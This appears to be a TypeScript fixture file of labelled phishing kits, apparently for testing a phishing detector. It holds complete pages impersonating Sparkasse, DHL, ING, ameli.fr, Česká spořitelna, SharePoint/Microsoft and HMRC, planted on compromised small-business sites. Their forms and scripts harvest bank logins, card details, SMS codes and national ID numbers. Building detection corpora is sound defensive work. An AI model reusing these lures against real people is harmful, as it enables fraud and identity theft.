import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { pngRoute, jsRoute, cssRoute } from '../parts/e-bin.js';

// Phishing kits dropped into customers' compromised WordPress, Joomla and shop installations.

export const entries: Entry[] = [
{
  id: 'zl-phish-joomla-banners-sparkasse',
  label: 'phishing',
  kind: 'cms-kit',
  url: 'https://fc-eintracht-lindau.de/images/banners/tmp/spk/login.php?session=8f2a0c11e4',
  body: `<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Online-Banking - Sparkasse</title>
<meta name="viewport" content="width=device-width">
<style>body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#fff}
.top{background:#ff0000;height:74px;display:flex;align-items:center;padding:0 40px}.top b{color:#fff;font-size:26px;letter-spacing:.5px}
.bar{background:#f5f5f5;border-bottom:1px solid #ddd;padding:10px 40px;font-size:13px;color:#555}
.wrap{max-width:960px;margin:30px auto;display:flex;gap:40px;padding:0 20px}.login{flex:0 0 360px;border:1px solid #ddd;padding:24px}
h2{margin:0 0 14px;font-size:20px;color:#333}label{font-size:13px;display:block;margin-top:10px}input{width:100%;padding:9px;border:1px solid #999;font-size:15px}
.btn{background:#ff0000;color:#fff;border:0;padding:11px 30px;font-weight:bold;margin-top:18px;cursor:pointer}.info{font-size:14px;color:#444}
.warn{background:#fff6d6;border-left:4px solid #f0b400;padding:12px;font-size:13px;margin-bottom:16px}</style></head>
<body><div class="top"><b>&#x1F534; Sparkasse</b></div>
<div class="bar">Privatkunden &nbsp;|&nbsp; Firmenkunden &nbsp;|&nbsp; Online-Banking</div>
<div class="wrap"><div class="login"><h2>Anmelden</h2>
<div class="warn">Aufgrund der neuen PSD2-Richtlinie müssen Sie Ihr S-pushTAN Verfahren bis zum <b>05.12.2026</b> aktualisieren, andernfalls wird Ihr Zugang gesperrt.</div>
<form method="post" action="verify.php" id="f">
<label>Bankleitzahl oder Name Ihrer Sparkasse</label><input name="blz" required>
<label>Anmeldename / Legitimations-ID</label><input name="user" required>
<label>PIN</label><input name="pin" type="password" maxlength="20" required>
<button class="btn">Anmelden</button></form>
<p style="font-size:12px"><a href="#">Zugangsdaten vergessen?</a></p></div>
<div class="info"><h3>Sicherheitshinweis</h3><p>Wir fragen niemals Ihre Daten per E-Mail ab. Schützen Sie Ihren Computer mit aktuellen Updates.</p>
<p>Nach erfolgreicher Anmeldung werden Sie durch die Aktualisierung geführt. Halten Sie bitte Ihre Sparkassen-Card (Debitkarte) bereit.</p></div></div>
<div style="text-align:center;font-size:11px;color:#999;margin:40px">&copy; Sparkassen-Finanzgruppe &middot; Impressum &middot; Datenschutz</div>
</body></html>`,
  routes: {
    'fc-eintracht-lindau.de/images/banners/tmp/spk/verify.php': htmlRoute('<!doctype html><html lang="de"><head><meta charset="utf-8"><title>Sparkasse</title></head><body style="font-family:Arial"><h2>Bitte bestätigen Sie Ihre Identität</h2><form method="post" action="tan.php"><label>Kartennummer</label><input name="cc"><label>Ablaufdatum</label><input name="exp"><label>Mobilnummer</label><input name="tel"><button>Weiter</button></form></body></html>'),
  },
},
{
  id: 'zl-phish-wp-uploads-dhl-zoll',
  label: 'phishing',
  kind: 'cms-kit',
  url: 'https://reitstall-moosbach.at/wp-content/uploads/2026/11/dhl/track/index.html',
  body: `<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>DHL Sendungsverfolgung | Zollgebühr</title>
<meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{margin:0;font-family:Frutiger,Arial,sans-serif;background:#f2f2f2}.hd{background:#ffcc00;padding:14px 30px}.hd span{font:italic 900 30px Arial;color:#d40511}
.c{max-width:620px;margin:24px auto;background:#fff;padding:26px;border-radius:4px}.st{display:flex;gap:8px;margin:18px 0}.st div{flex:1;height:6px;background:#ddd}.st .ok{background:#d40511}
table{width:100%;font-size:14px;border-collapse:collapse}td{padding:6px 0;border-bottom:1px solid #eee}input{width:100%;padding:10px;margin:4px 0 12px;border:1px solid #bbb}
.b{background:#d40511;color:#fff;border:0;padding:12px;width:100%;font-size:16px;font-weight:bold}.sm{font-size:12px;color:#666}</style></head>
<body><div class="hd"><span>DHL</span></div>
<div class="c"><h2>Ihre Sendung wird im Zollzentrum zurückgehalten</h2>
<p>Sendungsnummer: <b>JJD0003892174436</b></p><div class="st"><div class="ok"></div><div class="ok"></div><div class="ok"></div><div></div></div>
<table><tr><td>Status</td><td>Zollabfertigung ausstehend</td></tr><tr><td>Offener Betrag</td><td><b>2,99 EUR</b></td></tr><tr><td>Zustellversuch</td><td>nach Zahlungseingang, innerhalb 24h</td></tr></table>
<p>Bitte begleichen Sie die Einfuhrumsatzsteuer innerhalb von 48 Stunden. Danach wird das Paket an den Absender zurückgeschickt.</p>
<form id="pay"><input placeholder="Vor- und Nachname" name="n" required><input placeholder="Kartennummer" name="c" inputmode="numeric" maxlength="19" required>
<div style="display:flex;gap:10px"><input placeholder="MM/JJ" name="e" required><input placeholder="CVC" name="v" maxlength="4" required></div>
<button class="b">2,99 EUR jetzt bezahlen</button></form>
<p class="sm">Deutsche Post DHL Group &middot; Datenschutz &middot; Impressum</p></div>
<script>document.getElementById('pay').addEventListener('submit',function(e){e.preventDefault();var d=new URLSearchParams(new FormData(this));
fetch('../api/save.php',{method:'POST',body:d}).finally(function(){location.href='../sms/'})});</script></body></html>`,
  routes: {
    'reitstall-moosbach.at/wp-content/uploads/2026/11/dhl/api/save.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: 'ok' },
    'reitstall-moosbach.at/wp-content/uploads/2026/11/dhl/sms/': htmlRoute('<!doctype html><html lang="de"><head><meta charset="utf-8"><title>DHL - Bestätigung</title></head><body style="font-family:Arial"><h3>3D Secure</h3><p>Geben Sie den per SMS erhaltenen Code ein.</p><form><input name="otp" maxlength="6"><button>Bestätigen</button></form></body></html>'),
  },
},
{
  id: 'zl-phish-presta-module-ing-nl',
  label: 'phishing',
  kind: 'cms-kit',
  url: 'https://fietsonderdelen-vanbeek.nl/modules/ps_banner/views/img/ing/mijn/inloggen.php',
  body: `<!DOCTYPE html><html lang="nl"><head><meta charset="utf-8"><title>Inloggen Mijn ING</title><meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{margin:0;background:#f0f0f0;font-family:"ING Me",Arial,sans-serif}header{background:#fff;padding:16px 32px;border-bottom:3px solid #ff6200}
header b{color:#ff6200;font-size:28px;letter-spacing:2px}.panel{max-width:430px;margin:40px auto;background:#fff;border-radius:6px;padding:30px;box-shadow:0 1px 4px rgba(0,0,0,.1)}
h1{color:#ff6200;font-size:24px;margin-top:0}input{width:100%;padding:12px;border:1px solid #8c8c8c;border-radius:3px;margin:6px 0 14px;font-size:16px}
button{width:100%;background:#ff6200;border:0;color:#fff;font-size:17px;padding:13px;border-radius:3px}.note{font-size:13px;color:#555;background:#fff3e8;padding:10px;border-radius:4px}</style></head>
<body><header><b>ING</b> &#129409;</header>
<div class="panel"><h1>Inloggen</h1>
<p class="note">Uw ING Scanner is verlopen. Log in om een nieuwe aan te vragen. De nieuwe scanner wordt binnen 3 werkdagen gratis bezorgd.</p>
<form action="post.php" method="post"><label>Gebruikersnaam</label><input name="gebruikersnaam" autocomplete="username">
<label>Wachtwoord</label><input type="password" name="wachtwoord">
<label>Rekeningnummer (IBAN)</label><input name="iban" placeholder="NL00 INGB 0000 0000 00">
<label>Pasnummer en vervaldatum</label><input name="pas" placeholder="bijv. 1234 / 09-28">
<button type="submit">Inloggen</button></form>
<p style="font-size:13px"><a href="#">Gebruikersnaam of wachtwoord vergeten?</a></p></div>
<p style="text-align:center;font-size:12px;color:#777">ING Bank N.V. &middot; Privacy &middot; Cookies &middot; Veilig bankieren</p></body></html>`,
},
{
  id: 'zl-phish-wp-theme-ameli-remboursement',
  label: 'phishing',
  kind: 'cms-kit',
  url: 'https://gite-les-tilleuls-perigord.fr/wp-content/themes/twentytwentyone/assets/sass/ameli/remboursement/',
  body: `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>ameli.fr - Remboursement en attente</title><meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{margin:0;font-family:Marianne,Arial,sans-serif;background:#eef3f8;color:#1d1d1d}.top{background:#fff;padding:12px 30px;display:flex;align-items:center;gap:14px;border-bottom:1px solid #ccd}
.top .a{color:#0c419a;font-weight:800;font-size:26px}.top .s{font-size:12px;color:#555}.box{max-width:560px;margin:30px auto;background:#fff;padding:30px;border-top:5px solid #0c419a}
input,select{width:100%;padding:10px;margin:4px 0 12px;border:1px solid #9aa}.b{background:#0c419a;color:#fff;border:0;padding:12px 20px;width:100%;font-size:16px}.al{background:#e6eefc;padding:12px;font-size:14px}</style></head>
<body><div class="top"><span class="a">ameli</span><span class="s">L'Assurance Maladie<br>Agir ensemble, protéger chacun</span></div>
<div class="box"><h2>Vous avez un remboursement en attente</h2>
<div class="al">Suite à une régularisation de vos dossiers, un montant de <b>187,42 €</b> vous est dû. Merci de confirmer vos informations afin de recevoir le virement sous 3 à 5 jours ouvrés.</div>
<form id="f" action="valider.php" method="post">
<label>Nom et prénom</label><input name="nom" required><label>Date de naissance</label><input name="dob" placeholder="JJ/MM/AAAA" required>
<label>Numéro de sécurité sociale</label><input name="nss" maxlength="15" required><label>Adresse</label><input name="adr"><label>Téléphone portable</label><input name="tel">
<label>Numéro de carte bancaire (pour recevoir le remboursement)</label><input name="cb" maxlength="19"><div style="display:flex;gap:10px"><input name="exp" placeholder="MM/AA"><input name="cvv" placeholder="Cryptogramme"></div>
<button class="b">Confirmer et recevoir mon remboursement</button></form>
<p style="font-size:11px;color:#666">© 2026 Assurance Maladie - Mentions légales - Données personnelles</p></div></body></html>`,
},
{
  id: 'zl-phish-joomla-media-george-cs',
  label: 'phishing',
  kind: 'cms-kit',
  url: 'https://sdh-hornidolni.cz/media/system/css/george/prihlaseni/index.php',
  body: `<!DOCTYPE html><html lang="cs"><head><meta charset="utf-8"><title>George – Přihlášení | Česká spořitelna</title><meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{margin:0;background:#135ee2;font-family:Inter,Arial,sans-serif;color:#0b1f42}.c{max-width:420px;margin:8vh auto;background:#fff;border-radius:12px;padding:34px}
.lg{font-size:30px;font-weight:800;color:#135ee2}input{width:100%;padding:13px;border:1px solid #b8c4d9;border-radius:8px;margin:6px 0 14px;font-size:16px}
button{width:100%;padding:14px;border:0;border-radius:8px;background:#135ee2;color:#fff;font-size:16px;font-weight:600}.i{font-size:13px;color:#4a5a78}</style></head>
<body><div class="c"><div class="lg">George</div><p class="i">Česká spořitelna</p><h2>Přihlášení</h2>
<p class="i">Z důvodu přechodu na novou verzi aplikace George je nutné ověřit vaše údaje. Bez ověření bude přístup k účtu omezen.</p>
<form id="g"><label>Klientské číslo nebo uživatelské jméno</label><input name="id" required><label>Heslo</label><input name="pw" type="password" required>
<label>Telefonní číslo</label><input name="tel" placeholder="+420"><button>Pokračovat</button></form>
<p class="i" style="text-align:center">© Česká spořitelna, a.s. · Bezpečnost · Podpora 956 777 956</p></div>
<script>document.getElementById('g').onsubmit=function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST','odeslat.php');x.send(new FormData(this));
this.innerHTML='<p>Potvrďte přihlášení v aplikaci George klíč a zadejte kód z SMS:</p><input name="sms" maxlength="8"><button type="button">Potvrdit</button>'};</script></body></html>`,
  routes: { 'sdh-hornidolni.cz/media/system/css/george/prihlaseni/odeslat.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: 'OK' } },
},
{
  id: 'zl-phish-wp-uploads-sharepoint-lure',
  label: 'phishing',
  kind: 'cms-kit',
  url: 'https://steuerberatung-albers.de/wp-content/uploads/wpforms/tmp/sp/Angebot_Q4.html',
  body: `<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>SharePoint - Angebot_Q4_2026.pdf</title>
<style>body{margin:0;font-family:"Segoe UI",Arial;background:#faf9f8}.bar{background:#036c70;color:#fff;padding:10px 20px;font-size:15px}
.doc{max-width:520px;margin:60px auto;background:#fff;border:1px solid #e1dfdd;padding:34px;text-align:center}.doc .ic{width:64px;height:80px;background:#d13438;margin:0 auto 16px;color:#fff;font-weight:700;line-height:80px}
a.b{display:inline-block;background:#0078d4;color:#fff;padding:10px 26px;text-decoration:none;margin-top:16px}</style></head>
<body><div class="bar">&#9638; SharePoint</div><div class="doc"><div class="ic">PDF</div><h3>Angebot_Q4_2026.pdf</h3>
<p>Martina Albers (albers@steuerberatung-albers.de) hat eine Datei für Sie freigegeben.</p><p style="color:#605e5c;font-size:13px">Dieses Dokument ist geschützt. Bestätigen Sie Ihre geschäftliche E-Mail-Adresse, um es anzuzeigen.</p>
<a class="b" id="open" href="verify.html">Dokument öffnen</a></div>
<script>var e=new URLSearchParams(location.search).get('e');if(e){document.getElementById('open').href='verify.html#'+btoa(e)}</script></body></html>`,
  routes: {
    'steuerberatung-albers.de/wp-content/uploads/wpforms/tmp/sp/verify.html': htmlRoute(`<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>Anmelden</title><style>body{font-family:"Segoe UI";background:#f0f0f0}.b{width:400px;margin:80px auto;background:#fff;padding:40px}input{width:100%;padding:8px;margin:8px 0}</style></head>
<body><div class="b"><b>Microsoft</b><h2>Anmelden, um fortzufahren</h2><form method="post" action="https://steuerberatung-albers.de/wp-content/uploads/wpforms/tmp/sp/p.php"><input name="login" type="email" placeholder="E-Mail"><input name="passwd" type="password" placeholder="Kennwort"><button>Anmelden</button></form></div>
<script>try{document.querySelector('[name=login]').value=atob(location.hash.slice(1))}catch(e){}</script></body></html>`),
  },
},
{
  id: 'zl-phish-drupal-files-hmrc-refund',
  label: 'phishing',
  kind: 'cms-kit',
  url: 'https://www.harrogate-bowls-club.org.uk/sites/default/files/css/gov/refund/claim.html',
  body: `<!DOCTYPE html><html lang="en-GB"><head><meta charset="utf-8"><title>Claim your tax refund - GOV.UK</title><meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{margin:0;font-family:"GDS Transport",Arial,sans-serif;color:#0b0c0c}.hd{background:#0b0c0c;color:#fff;padding:12px 30px;font-weight:700;font-size:24px;border-bottom:10px solid #1d70b8}.w{max-width:640px;margin:30px auto;padding:0 20px}
label{font-weight:700;display:block;margin-top:16px}input{width:100%;padding:8px;border:2px solid #0b0c0c;font-size:18px;margin-top:4px}.btn{background:#00703c;color:#fff;border:0;padding:10px 18px;font-size:18px;margin-top:20px;box-shadow:0 2px 0 #002d18}.ph{background:#f3f2f1;padding:10px;font-size:14px}</style></head>
<body><div class="hd">GOV.UK</div><div class="w"><p class="ph"><b>BETA</b> This is a new service – your feedback will help us to improve it.</p><span style="color:#505a5f">HM Revenue &amp; Customs</span><h1>Claim your tax refund</h1>
<p>After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of <b>£428.70</b>. Please submit the tax refund request and allow us 3-5 business days to process it.</p>
<form id="f" action="process.php" method="post"><label>Full name</label><input name="name"><label>Date of birth</label><input name="dob" placeholder="DD/MM/YYYY"><label>National Insurance number</label><input name="nino" placeholder="QQ 12 34 56 C"><label>Mother's maiden name</label><input name="mmn">
<label>Card number (the refund will be credited to this card)</label><input name="ccnum"><label>Expiry date</label><input name="exp" placeholder="MM/YY"><label>Security code</label><input name="cvv" maxlength="4"><button class="btn">Submit refund request</button></form>
<p style="font-size:14px;color:#505a5f;margin-top:40px">Help · Privacy · Cookies · Accessibility statement · Contact · Terms and conditions · © Crown copyright</p></div></body></html>`,
},
];
